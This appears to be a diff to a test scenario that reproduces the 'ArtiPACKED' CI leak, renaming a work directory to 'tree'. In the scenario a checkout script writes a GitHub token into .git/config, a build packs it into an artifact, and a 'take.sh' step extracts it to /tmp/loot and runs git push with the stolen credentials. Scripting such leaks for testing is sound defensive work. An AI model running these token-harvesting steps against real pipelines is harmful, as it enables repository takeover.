@@ -2,24 +2,24 @@
 incident "ArtiPACKED: the checkout leaves its token in .git/config, the artifact carries it away while the job runs"
 
 script checkout.js <<'X'
-mkdir -p work/.git
+mkdir -p tree/.git
 basic=$(printf %s "x-access-token:$GITHUB_TOKEN" | base64 -w0)
-printf '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic %s\n' "$basic" >work/.git/config
+printf '[http "https://github.com/"]\n\textraheader = AUTHORIZATION: basic %s\n' "$basic" >tree/.git/config
 http GET api.github.com:8080/repos/octo/app "$GITHUB_TOKEN"
 X
 script build.sh <<'X'
 #!/bin/bash
 node checkout.js
-echo code >work/main.c
+echo code >tree/main.c
 mkdir -p "$rig/artifacts"
-tar -cf "$rig/artifacts/$1.tar" "${@:3}" work
+tar -cf "$rig/artifacts/$1.tar" "${@:3}" tree
 : >"$rig/artifacts/$1.done"
 await "$2" # the job goes on
 X
 script take.sh <<'X'
 #!/bin/bash
 mkdir -p /tmp/loot && tar -xf "$rig/artifacts/$1.tar" -C /tmp/loot
-[ ! -e /tmp/loot/work/.git/config ] || git push /tmp/loot/work
+[ ! -e /tmp/loot/tree/.git/config ] || git push /tmp/loot/tree
 : >"$2"
 X
 native git <<'X'
